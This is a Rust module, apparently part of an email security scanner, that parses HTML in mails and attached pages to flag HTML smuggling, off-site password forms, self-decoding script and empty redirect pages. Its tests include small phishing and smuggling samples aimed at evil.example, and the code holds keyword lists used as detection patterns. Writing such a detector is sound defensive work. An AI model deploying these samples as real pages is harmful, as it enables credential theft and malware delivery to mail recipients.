//! HTML, tokenised as browsers do (WHATWG 13.2.5). In the body of a mail scripts do not run, so only its links matter;
//! an attached page runs with all a browser gives, so what it does matters as well.

use encoding_rs::UTF_8;
use html5gum::{StartTag, Token};

use super::clipped;
use super::link::{Link, LinkOrigin};
use super::smuggle::smuggles;
use super::tokens::Tokens;
use crate::structure::Check;

/// Bytes of one page that are read.
const PAGE_BYTES_MAX: usize = 8 << 20;
/// Links of one page that are kept.
const LINKS_MAX: usize = 2000;
/// Bytes of scripts of one page that are looked at.
const SCRIPT_BYTES_MAX: usize = 4 << 20;
/// Bytes of text of one page that are kept, about.
const TEXT_BYTES_MAX: usize = 64 << 10;
/// Characters of a link's text that are kept.
const SHOWN_MAX: usize = 300;

/// What was seen of one page.
#[derive(Debug, Default)]
pub struct Page {
    /// Its links, with what they show.
    pub links: Vec<Link>,
    /// The check and the evidence of each thing that it does.
    pub signals: Vec<(Check, String)>,
    /// Characters of text that somebody would read.
    pub text_chars: usize,
    /// That text, its beginning.
    pub text: String,
    /// Pictures that it loads from elsewhere, and those of them of one or two pixels.
    pub remote_pictures: usize,
    /// Pictures that nobody sees.
    pub tracking_pixels: usize,
}

/// Reads a page. `is_attachment`: it opens in a browser.
pub fn read(bytes: &[u8], is_attachment: bool) -> Page {
    let bytes = &bytes[..bytes.len().min(PAGE_BYTES_MAX)];
    // Browsers believe a byte order mark before anything else (WHATWG Encoding 6.1).
    let (text, ..) = UTF_8.decode(bytes);
    let mut reader = PageReader::default();
    for token in Tokens::of(&text) {
        reader.take(token);
    }
    reader.end(is_attachment)
}

#[derive(Default)]
struct PageReader {
    page: Page,
    /// The text of each script element.
    scripts: Vec<String>,
    script_bytes: usize,
    /// The link that is open: where it leads, and what it has shown so far.
    open: Option<(String, String)>,
    in_script: bool,
    in_style: bool,
    form_action: Option<String>,
    has_password: bool,
    refreshes: Vec<String>,
    redirects: bool,
    handlers: String,
}

impl PageReader {
    fn take(&mut self, token: Token) {
        match token {
            Token::StartTag(tag) => self.start(&tag),
            Token::EndTag(tag) => match tag.name.as_slice() {
                b"a" => self.close_link(),
                b"script" => self.in_script = false,
                b"style" => self.in_style = false,
                _ => {}
            },
            Token::String(text) => {
                let text = String::from_utf8_lossy(&text.value);
                if self.in_script {
                    if self.script_bytes < SCRIPT_BYTES_MAX
                        && let Some(script) = self.scripts.last_mut()
                    {
                        self.script_bytes += text.len();
                        script.push_str(&text);
                    }
                } else if !self.in_style {
                    self.page.text_chars += text.chars().filter(|c| !c.is_whitespace()).count();
                    if self.page.text.len() < TEXT_BYTES_MAX {
                        self.page.text.push_str(&text);
                        // What stands in two cells is two words.
                        self.page.text.push(' ');
                    }
                    if let Some((_, shown)) = &mut self.open
                        && shown.len() < SHOWN_MAX
                    {
                        shown.push_str(&text);
                    }
                }
            }
            _ => {}
        }
    }

    fn start(&mut self, tag: &StartTag<()>) {
        let attribute = |name: &str| {
            let value = tag.attributes.get(name.as_bytes())?;
            Some(String::from_utf8_lossy(&value.value).trim().to_owned())
        };
        for (name, value) in &tag.attributes {
            if name.starts_with(b"on") && self.handlers.len() < SCRIPT_BYTES_MAX {
                self.handlers.push_str(&String::from_utf8_lossy(&value.value));
                self.handlers.push('\n');
            }
        }
        match tag.name.as_slice() {
            b"a" | b"area" => {
                self.close_link();
                if let Some(href) = attribute("href") {
                    self.open = Some((href, String::new()));
                }
                if tag.name.as_slice() == b"area" {
                    self.close_link();
                }
            }
            b"script" => {
                self.in_script = !tag.self_closing;
                self.scripts.push(String::new());
            }
            b"style" => self.in_style = !tag.self_closing,
            b"form" => self.form_action = attribute("action").or(self.form_action.take()),
            b"input" => {
                self.has_password |= attribute("type").is_some_and(|kind| kind.eq_ignore_ascii_case("password"))
            }
            b"meta" if attribute("http-equiv").is_some_and(|kind| kind.eq_ignore_ascii_case("refresh")) => {
                let content = attribute("content").unwrap_or_default();
                let target = content.split_once('=').map(|(_, url)| url.trim_matches(['\'', '"', ' ']).to_owned());
                self.refreshes.extend(target);
            }
            b"img" => self.picture(attribute("src"), attribute("width"), attribute("height")),
            _ => {}
        }
    }

    fn picture(&mut self, source: Option<String>, width: Option<String>, height: Option<String>) {
        if !source.is_some_and(|source| source.starts_with("http") || source.starts_with("//")) {
            return;
        }
        self.page.remote_pictures += 1;
        let tiny =
            |edge: Option<String>| edge.is_some_and(|edge| matches!(edge.trim_end_matches("px"), "0" | "1" | "2"));
        self.page.tracking_pixels += usize::from(tiny(width) && tiny(height));
    }

    fn close_link(&mut self) {
        if let Some((href, shown)) = self.open.take()
            && self.page.links.len() < LINKS_MAX
        {
            let shown = shown.split_whitespace().collect::<Vec<_>>().join(" ");
            self.page.links.push(Link { target: href, shown, place: LinkOrigin::Page });
        }
    }

    fn end(mut self, is_attachment: bool) -> Page {
        self.close_link();
        if !is_attachment {
            return self.page;
        }
        let place = LinkOrigin::Attachment;
        for target in self.refreshes.iter().chain(&self.form_action) {
            self.page.links.push(Link { target: target.clone(), shown: String::new(), place });
        }
        for link in &mut self.page.links {
            link.place = place;
        }
        self.scripts.push(self.handlers);
        let script = self.scripts.join("\n").to_lowercase();
        let mut add = |check, evidence: String| self.page.signals.push((check, crate::mime::clean(&evidence)));
        if let Some(how) = smuggles(&self.scripts) {
            add(Check::HtmlSmuggling, how);
        }
        let posts = self.form_action.as_deref().filter(|action| action.starts_with("http") || action.starts_with("//"));
        if self.has_password && (posts.is_some() || sends(&script)) {
            let to = posts.map_or("a script sends them".to_owned(), |to| format!("they go to {}", clipped(to)));
            add(Check::HtmlCredentials, format!("a page that asks for a password; {to}"));
        }
        if let Some(how) = writes_itself(&script) {
            add(Check::HtmlDecoded, how);
        }
        self.redirects |= ["location.href=", "location.replace(", "location=", "location.assign("]
            .iter()
            .any(|word| without_blanks(&script).contains(word));
        let is_empty = self.page.text_chars < 50;
        if (self.redirects || !self.refreshes.is_empty()) && is_empty {
            let to = self.refreshes.first().map(|to| format!(" to {}", clipped(to))).unwrap_or_default();
            add(Check::HtmlRedirect, format!("a page that only moves on{to}"));
        }
        self.page
    }
}

fn without_blanks(text: &str) -> String {
    text.chars().filter(|c| !c.is_whitespace()).collect()
}

fn sends(script: &str) -> bool {
    ["xmlhttprequest", "fetch(", "$.ajax", "$.post", "sendbeacon", "axios"].iter().any(|word| script.contains(word))
}

/// A page whose real content is decoded and written when it opens.
fn writes_itself(script: &str) -> Option<String> {
    let plain = without_blanks(script);
    let decodes = ["unescape(", "atob(", "decodeuricomponent(", "fromcharcode(", "decodeuri("];
    let writes = ["document.write(", "document.writeln(", "innerhtml=", "eval(", ".srcdoc=", "outerhtml="];
    for writer in writes {
        for (at, _) in plain.match_indices(writer) {
            let written = &plain[at + writer.len()..];
            let near = &written[..written.floor_char_boundary(written.len().min(80))];
            if only_loads_a_script(written) {
                continue;
            }
            if let Some(decoder) = decodes.into_iter().find(|decoder| near.contains(decoder)) {
                return Some(format!("a page that writes itself ({writer}{decoder})"));
            }
        }
    }
    // Thousands of escapes are nobody's way to write a page.
    let escapes = plain.matches("%3c").count().min(plain.matches("%3e").count());
    (escapes >= 20 && plain.contains("unescape(")).then(|| format!("a page in {escapes} escapes"))
}

/// Letters of the argument of a loader at most.
const LOADER_MAX: usize = 600;

/// Whether what is written is one script element that is loaded from elsewhere: pages have loaded the counters of their
/// visitors so for many years, and saved pages still do. `written` follows the opening parenthesis.
fn only_loads_a_script(written: &str) -> bool {
    let Some(escaped) = written.strip_prefix("unescape(") else { return false };
    let head = &escaped[..escaped.floor_char_boundary(escaped.len().min(LOADER_MAX))];
    let Some(end) = head.find("))") else { return false };
    let text = head[..end].replace("%3c", "<").replace("%3e", ">").replace("%20", "").replace("%22", "\"");
    text.matches('<').count() == 2 && text.contains("<script") && text.contains("src=") && text.contains("></script>")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn checks(html: &str) -> Vec<Check> {
        read(html.as_bytes(), true).signals.into_iter().map(|(check, _)| check).collect()
    }

    #[test]
    fn links_with_what_they_show() {
        let page = read(
            b"<p>Hi <a href=' https://a.example/x '>see <b>www.b.example</b></a><a \
            href=\"mailto:x@y\">mail</a></p><area href=https://c.example>",
            false,
        );
        let seen: Vec<(&str, &str)> =
            page.links.iter().map(|link| (link.target.as_str(), link.shown.as_str())).collect();
        assert_eq!(
            seen,
            [("https://a.example/x", "see www.b.example"), ("mailto:x@y", "mail"), ("https://c.example", "")]
        );
        assert!(page.signals.is_empty());
    }

    #[test]
    fn what_an_attached_page_does() {
        use Check as C;
        assert_eq!(
            checks("<h1>Report</h1><p>The figures of March, as a page, with enough text to be read by somebody.</p>"),
            []
        );
        assert_eq!(
            checks(
                "<script>var b=new Blob([Uint8Array.from(atob('TVqQ'),c=>c.charCodeAt(0))]);\
                 a.href=URL.createObjectURL(b);a.download='x.iso';a.click()</script>"
            ),
            [C::HtmlSmuggling]
        );
        assert_eq!(
            checks("<form action='https://evil.example/p'><input type=email><input type=PASSWORD></form>"),
            [C::HtmlCredentials]
        );
        assert_eq!(checks("<form action='/login'><input type=password></form>"), [], "a saved page of the own site");
        assert_eq!(
            checks("<input type=password><script>fetch('https://evil.example',{method:'POST'})</script>"),
            [C::HtmlCredentials]
        );
        assert_eq!(
            checks(
                "<script>document.write( unescape('%3Chtml%3E'))</script><p>enough text here that this is more than a \
                    page that moves on, really.</p>"
            ),
            [C::HtmlDecoded]
        );
        let loader = "var h=(('https:'==document.location.protocol)?'https://ssl.':'http://www.');\
            document.write(unescape(\"%3Cscript src='\"+h+\"counter.example/ga.js'\
            %3E%3C/script%3E\"));";
        let text = "<p>A saved page with enough text in it that somebody would read it, and no more than that.</p>";
        assert_eq!(checks(&format!("{text}<script>{loader}</script>")), [], "the counter of a saved page");
        let more = loader.replace("%3C/script%3E", "alert(1)%3C/script%3E");
        assert_eq!(checks(&format!("{text}<script>{more}</script>")), [C::HtmlDecoded], "a script that is written");
        let wide: Vec<u8> = "\u{feff}<script>document.write(unescape('%3Chtml%3E'))</script>"
            .encode_utf16()
            .flat_map(u16::to_le_bytes)
            .collect();
        let read = read(&wide, true).signals.into_iter().map(|(check, _)| check).collect::<Vec<_>>();
        assert!(read.contains(&C::HtmlDecoded), "a page in UTF-16: {read:?}");
        assert_eq!(checks("<meta http-equiv=refresh content='0; url=https://evil.example/'>"), [C::HtmlRedirect]);
        assert_eq!(checks("<body onload=\"location.href='https://evil.example'\">"), [C::HtmlRedirect]);
        assert_eq!(
            checks(
                "<script src=https://cdn.example/chart.js></script><script>new Chart(document.body)</script><p>A chart \
                    of the sales of the last year, with text around it.</p>"
            ),
            []
        );
    }

    #[test]
    fn pictures_from_elsewhere() {
        let page = read(
            b"<img src=https://a.example/1.gif width=1 height=1><img src=cid:x><img src='//b.example/l.png' width=200>",
            false,
        );
        assert_eq!((page.remote_pictures, page.tracking_pixels), (2, 1));
    }
}
